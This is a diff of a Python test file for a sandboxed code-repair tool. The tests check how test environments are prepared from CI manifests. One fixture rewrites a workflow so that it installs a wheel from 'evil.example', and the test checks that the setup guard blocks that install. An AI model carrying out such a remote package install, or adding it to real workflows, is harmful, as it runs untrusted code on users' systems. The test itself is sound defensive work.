@@ -19,7 +19,8 @@ from regreen.domain.box_limits import BoxLimits
 from regreen.domain.job_control import StopCondition
 from regreen.domain.models import DoctorCheck, EnvSpec, PreparedEnv
 from regreen.domain.ports import Box, Sandbox
-from regreen.gate.suite import find_suite
+from regreen.gate.suite import ProjectSuite, find_suite
+from regreen.packages.setup_guard import InstallPolicy
 from regreen.runs.trial import Trial
 from tests.unit.repairs import GREEN, SETUP, Repository, sandbox_or_skip
 
@@ -215,17 +216,19 @@ def test_a_setup_that_takes_too_long_is_left_out_and_is_no_fault_of_the_patch(
 
 
 class Hearing:
-    """The real sandbox, and how long each setup was given."""
+    """The real sandbox, each setup, and how long it was given."""
 
     def __init__(self, real: Sandbox) -> None:
         self.real = real
         self.name = real.name
         self.limits: list[float] = []
+        self.setups: list[str] = []
 
     def prepare(
         self, spec: EnvSpec, tree: Iterable[bytes], cancel: Event | None = None
     ) -> PreparedEnv:
         self.limits.append(spec.timeout_s)
+        self.setups.append(spec.setup or "")
         return self.real.prepare(spec, tree, cancel)
 
     def open(self, env: PreparedEnv, tree: Iterable[bytes], limits: BoxLimits | None = None) -> Box:
@@ -320,3 +323,48 @@ def test_the_tests_of_another_language_are_found_from_its_manifest(
     held = suite.compare_patch(same, {})
     assert (held.why, held.broken, held.is_part) == ("", (), False)
     assert fails in suite.compare_patch(worse, {}).broken[0]
+
+
+WORKFLOW = """on: push
+jobs:
+  test:
+    runs-on: ubuntu-latest
+    steps:
+      - run: python -m ensurepip
+      - run: python -m pip install -q pytest
+      - run: python -m pytest -q
+"""
+
+
+def bare_suite(repository: Repository, red: str, sandbox: Sandbox, **more: Any) -> ProjectSuite:
+    """The suite of a trial without pip, which the test runner's own installation needs."""
+    suite = find_suite(
+        Trial(("python", "check.py"), setup="python -m pip uninstall -q -y pip", **more), red,
+        configured=None, heard={}, git=repository.open(),
+        sandbox=sandbox, stop=StopCondition(time.monotonic() + 600),
+    )  # fmt: skip
+    assert suite is not None
+    return suite
+
+
+def test_a_suite_that_its_own_tools_cannot_prepare_is_prepared_as_the_manifests_say(
+    repository: Repository,
+) -> None:
+    red = repository.commit("hold it", {**wants("HI!"), ".github/workflows/ci.yml": WORKFLOW})
+    calm = repository.commit("calm again", {"pkg/say.py": CALM})
+    held = bare_suite(repository, red, sandbox_or_skip()).compare_patch(calm, {})
+    assert (held.why, held.kept) == ("", 3)
+    assert "tests/test_say.py::test_shout" in held.broken[0]
+
+
+def test_the_setup_guard_judges_how_the_manifests_say_that_tests_are_prepared(
+    repository: Repository,
+) -> None:
+    rogue = WORKFLOW.replace("pytest\n", "pytest https://evil.example/more.whl\n", 1)
+    red = repository.commit("hold it", {".github/workflows/ci.yml": rogue})
+    sandbox = Hearing(sandbox_or_skip())
+    rules = InstallPolicy(trusts_command=True)
+    suite = bare_suite(repository, red, sandbox, trust="pull_request", rules=rules)
+    assert suite.run_baseline() is None
+    assert any("uv" in setup for setup in sandbox.setups)  # inferred, and harmless
+    assert not any("evil.example" in setup for setup in sandbox.setups)
